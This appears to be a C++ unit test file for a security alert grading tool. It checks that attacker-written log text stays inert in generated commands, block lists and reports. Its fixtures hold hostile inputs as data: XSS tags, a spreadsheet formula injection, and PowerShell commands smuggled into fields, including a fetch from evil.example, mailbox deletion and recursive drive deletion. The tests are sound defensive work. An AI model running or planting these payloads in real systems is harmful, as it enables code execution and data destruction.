// Logs are written by attackers: what they write stays text in every report and never becomes part
// of a command.
#include <doctest/doctest.h>

#include <algorithm>

#include "base/json.h"
#include "base/time.h"
#include "grade/grade.h"
#include "grade/report.h"
#include "unit/grade/tables.h"

using namespace crumb;
using namespace crumb::grade;

namespace {

const std::vector<std::pair<std::string, std::string>> kHostile = {
    {"EntraIdSignInEvents",
     R"(union BaseSignIns, SignIn(T0, "a1", "203.0.113.45", "NL", "<script>alert(1)</script> Linux Chrome", true, "", 0), TailSignIns)"},
    {"CloudAppEvents",
     R"(union BaseActs, Act(T0 + 10m, "a1", "203.0.113.45", "NL", "=cmd|'/c calc'!A1 hosting", Chrome, "New-InboxRule", RuleParameters("$(iwr evil.example)'; Remove-Mailbox ana \u2018x\u202E| <img src=x onerror=alert(1)>", "invoice", "RSS Feeds", "True")), TailActs)"},
    {"UrlClickEvents",
     R"(union BaseClicks, Click(T0 - 110s, "https://login.m365-secure.example/$(whoami)?a=';Stop-Computer"), Click(T0 - 100s, "https://evil`n.example/x"), TailClicks)"},
    {"DeviceNetworkEvents",
     R"(union BaseConnections, Connection(T0 - 108s, "203.0.113.45", "login.m365-secure.example"), TailConnections)"},
    {"EmailEvents",
     R"(print Timestamp = T0 - 1h, NetworkMessageId = "nm-1", SenderFromAddress = "ap'; Remove-Item -Recurse C:\\ #@northwlnd.example", Subject = "<b>pay</b>", EmailDirection = "Inbound", RecipientEmailAddress = Upn)"},
    {"AlertInfo",
     R"(union AlertHead(T0 + 3m, "g1", GradedTitle, "High", "Microsoft Defender XDR"), AlertHead(T0 + 5m, "a2", "<script>alert('t')</script> | `x` \u202Eevil", "High", "Other"), BaseAlertHeads)"},
    {"AlertEvidence",
     R"(union AlertUser(T0 + 3m, "g1", GradedTitle), AlertUser(T0 + 5m, "a2", "x"), BaseAlertEvidence)"}};

const std::vector<std::string_view> kPoison = {
    "iwr",   "Remove-Mailbox ana", "whoami", "Stop-Computer", "Remove-Item", "<script", "onerror",
    "evil`n"};

Grading grade_it(std::string upn = {}) {
  const Catalog catalog = grade::testing::catalog_of(kHostile);
  const std::vector<SourceFile> files = {
      {.name = "<img src=x>.csv", .table = "x", .rows = 1, .rejected = 0, .truncated = false}};
  GradeRequest request;
  request.decisions.own_networks = {"198.51.100.0/26"};
  if (!upn.empty()) {
    request.user_upn = std::move(upn);
    request.at_ticks = *parse_iso_datetime("2026-11-16T09:21:58Z");
  }
  auto graded = grade::grade(catalog, files, [](RowRef row) { return row.record; }, request);
  REQUIRE_MESSAGE(graded.has_value(), graded.error().message);
  return std::move(graded->grading);
}

}  // namespace

TEST_CASE("no text of a log stands in a command or in the lists that commands read") {
  const Grading grading = grade_it();
  REQUIRE(grading.verdicts.size() == 1);
  const Verdict& verdict = grading.verdicts[0];
  CHECK(verdict.classification == "truePositive");
  std::size_t commands = 0;
  for (const Action& action : verdict.actions)
    for (const Command& command : action.commands) {
      ++commands;
      for (const std::string_view poison : kPoison)
        CHECK(command.text.find(poison) == std::string::npos);
      CHECK(command.text.find('\n') == std::string::npos);
      CHECK(command.text.find("203.0.113.45") == std::string::npos);
      CHECK(command.text.find("ana.reyes") == std::string::npos);
    }
  CHECK(commands > 5);
  CHECK(verdict.block.senders.empty());
  CHECK(verdict.block.domains == std::vector<std::string>{"login.m365-secure.example"});
  CHECK(verdict.block.urls.empty());
  CHECK(!verdict.block.unsafe.empty());
  const auto case_file = json::parse(case_json(verdict, {}));
  REQUIRE(case_file.has_value());
  std::string block;
  json::append(block, *case_file->find("block"));
  for (const std::string_view poison : kPoison) CHECK(block.find(poison) == std::string::npos);
}

TEST_CASE("a user name that is none: commands are not offered") {
  const Grading grading = grade_it("ana'; Remove-Mailbox@example.com");
  for (const Action& action : grading.verdicts[0].actions) {
    if (action.id != "R1" && action.id != "R0") continue;
    CHECK(action.commands.empty());
    CHECK(action.why.find("not offered") != std::string::npos);
  }
  const auto case_file = json::parse(case_json(grading.verdicts[0], {}));
  REQUIRE(case_file.has_value());
  CHECK(*case_file->find("user")->find("upn")->as_string() == "");
  for (const MissingTable& table : grading.verdicts[0].missing) {
    const std::size_t at = table.query.find("let CaseUpn = ");
    if (at != std::string::npos)
      CHECK(table.query.substr(at, 60).find("@\"ana'; remove-mailbox@example.com\";") !=
            std::string::npos);
  }
}

TEST_CASE("reports show hostile text as text") {
  const Grading grading = grade_it();
  const ReportFiles files{.files_json = "[]", .lines = {"<img src=x onerror=alert(1)>.csv: x"}};
  const std::string html = report_html(grading, files);
  CHECK(html.find("<script") == std::string::npos);
  CHECK(html.find("<img") == std::string::npos);
  CHECK(html.find("href") == std::string::npos);
  CHECK(html.find("&lt;script&gt;") != std::string::npos);
  const std::string markdown = report_markdown(grading, files);
  for (std::size_t at = markdown.find("<script"); at != std::string::npos;
       at = markdown.find("<script", at + 1))
    CHECK(markdown[at - 1] == '\\');
  CHECK(markdown.find("\\<img") != std::string::npos);
  const std::string text = report_text(grading, files);
  CHECK(text.find("\u202E") == std::string::npos);
  CHECK(text.find("\\u{202e}") != std::string::npos);
  CHECK(text.find('\x1b') == std::string::npos);
  CHECK(text.find("https://login") == std::string::npos);  // defanged
  REQUIRE(json::parse(verdict_json(grading, files)).has_value());
}

TEST_CASE("a value that is pasted into KQL stays one string") {
  const Verdict verdict = grade_it("x\" | union * //@example.com").verdicts[0];
  const std::string query = copy_for_defender(verdict, "1.0", {});
  CHECK(query.find("let CaseUpn = @\"x\"\" | union * //@example.com\";") != std::string::npos);
  CHECK(copy_for_defender(verdict, "H1", {}).empty());
}
